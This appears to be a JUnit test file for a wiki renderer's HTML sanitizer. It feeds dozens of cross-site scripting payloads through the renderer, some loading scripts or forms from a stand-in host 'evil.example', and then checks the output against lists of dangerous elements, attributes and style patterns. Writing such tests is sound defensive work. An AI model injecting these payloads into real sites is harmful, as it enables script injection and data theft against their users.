package org.portolan.wiki.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.portolan.wikitext.expand.PageFacts;
import org.portolan.wikitext.limit.TextLimits;

/** Attempts to bring a program, a foreign resource or a part of the site's frame into a page. */
class HostileTextTest {
  private static Renderer renderer;

  private static final Set<String> ELEMENTS =
      Set.of(
          "script",
          "style",
          "iframe",
          "object",
          "embed",
          "form",
          "input",
          "button",
          "textarea",
          "select",
          "link",
          "meta",
          "base",
          "svg",
          "math",
          "img",
          "video",
          "audio",
          "source",
          "template",
          "noscript",
          "xml",
          "frame",
          "frameset",
          "applet",
          "details");

  private static final Set<String> ATTRIBUTES =
      Set.of("src", "srcset", "background", "action", "formaction", "data", "srcdoc", "target");

  private static final Pattern ADDRESS =
      Pattern.compile("(https?:|mailto:|//?[^/\\\\]|#).*", Pattern.DOTALL);

  private static final Pattern STYLE =
      Pattern.compile("(?i)url|expression|script|position|behavior|binding|import|[@\\\\(<]");

  @BeforeAll
  static void open() {
    renderer = new Renderer(Sites.ENGLISH, TextLimits.DEFAULT);
  }

  @AfterAll
  static void close() {
    renderer.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "[javascript:alert(1) x]",
        "[[javascript:alert(1)|x]]",
        "[data:text/html;base64,PHNjcmlwdD4= x]",
        "[https://example.org/\"onmouseover=\"alert(1) x]",
        "[[Page\" onclick=\"alert(1)|x]]",
        "[[Page|<img src=x onerror=alert(1)>]]",
        "<div onclick=\"alert(1)\">x</div>",
        "<div OnClick=alert(1)>x</div>",
        "<div/onclick=alert(1)>x</div>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<style>body{background:url(//evil.example)}</style>",
        "<iframe src=\"//evil.example\"></iframe>",
        "<object data=\"//evil.example\"></object>",
        "<embed src=\"//evil.example\">",
        "<form action=\"//evil.example\"><input name=x></form>",
        "<input autofocus onfocus=alert(1)>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=\"//evil.example/\">",
        "<table background=\"//evil.example/x\"><tr><td>x</td></tr></table>",
        "{| onclick=alert(1) style=\"position:fixed\"\n| onmouseover=alert(1) | x\n|}",
        "<video><source onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<nowiki><script>alert(1)</script></nowiki>",
        "<pre><script>alert(1)</script></pre>",
        "<ref><script>alert(1)</script></ref><references/>",
        "<ref name=\"x\" onclick=\"alert(1)\">y</ref><references/>",
        "<math><script>alert(1)</script></math>",
        "<syntaxhighlight lang=\"html\"><script>alert(1)</script></syntaxhighlight>",
        "<source lang=\"x\" onclick=\"alert(1)\"></pre><script>alert(1)</script></source>",
        "== <script>alert(1)</script> ==\n== b ==\n== c ==\n== d ==",
        "== x\" onclick=\"alert(1) ==\n== b ==\n== c ==\n== d ==",
        "{{#tag:script|alert(1)}}",
        "{{#if:1|<script>alert(1)</script>}}",
        "{{Evil|<script>alert(1)</script>}}",
        "[[File:x.jpg|thumb|<img src=x onerror=alert(1)>]]",
        "[[File:x.jpg|link=javascript:alert(1)]]",
        "[[File:javascript:alert(1)|thumb|x]]",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<span id=\"site-main\" class=\"site-notice\">x</span>",
        "<a href=\"\\\\evil.example\">x</a>",
        "<a href=\"#\" target=_blank onclick=alert(1)>x</a>",
        "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "'''<b onmouseover=alert(1)>'''x",
        "mailto:x@example.org?subject=<script>alert(1)</script>",
        "__TOC__<script>alert(1)</script>\n== a =="
      })
  void render_hostileText_leavesNothingDangerous(String text) {
    Map<String, String> pages = Map.of("Template:Evil", "{{{1}}}<img src=x onerror=alert(2)>");
    String html =
        renderer
            .render(
                "test",
                PageFacts.unsaved(Sites.ENGLISH.title("Example page").orElseThrow(), Instant.EPOCH),
                text,
                MapPages.of(pages))
            .body()
            .html(new LocalLinks(Set.of()));
    assertThat(dangers(html)).as("in %s", html).isEmpty();
  }

  /** Returns what a browser would find dangerous, as an independent parser of HTML sees it. */
  private static List<String> dangers(String html) {
    List<String> dangers = new ArrayList<>();
    for (Element element : Jsoup.parseBodyFragment(html).body().getAllElements()) {
      if (ELEMENTS.contains(element.normalName())) {
        dangers.add("<" + element.normalName() + ">");
      }
      for (Attribute attribute : element.attributes()) {
        String value = attribute.getValue();
        boolean bad =
            switch (attribute.getKey()) {
              case "href" -> !ADDRESS.matcher(value).matches();
              case "style" -> STYLE.matcher(value).find();
              case "id" -> value.startsWith("site-");
              case "class" -> value.contains("site-");
              default ->
                  attribute.getKey().startsWith("on") || ATTRIBUTES.contains(attribute.getKey());
            };
        if (bad) {
          dangers.add(attribute.toString());
        }
      }
    }
    return dangers;
  }

  @Test
  void dangers_ofRawAttacks_areRecognised() {
    assertThat(dangers("<img src=x onerror=alert(1)>")).hasSize(3);
    assertThat(dangers("<p onclick=alert(1)>")).hasSize(1);
    assertThat(dangers("<a href=\"javascript:alert(1)\">x</a>")).hasSize(1);
    assertThat(dangers("<div style=\"width:expression(1)\">x</div>")).hasSize(1);
    assertThat(dangers("<div id=\"site-main\" class=\"x site-notice\">x</div>")).hasSize(2);
    assertThat(dangers("<p>onclick=alert(1) is text</p><a href=\"/wiki/X\">x</a>")).isEmpty();
  }
}
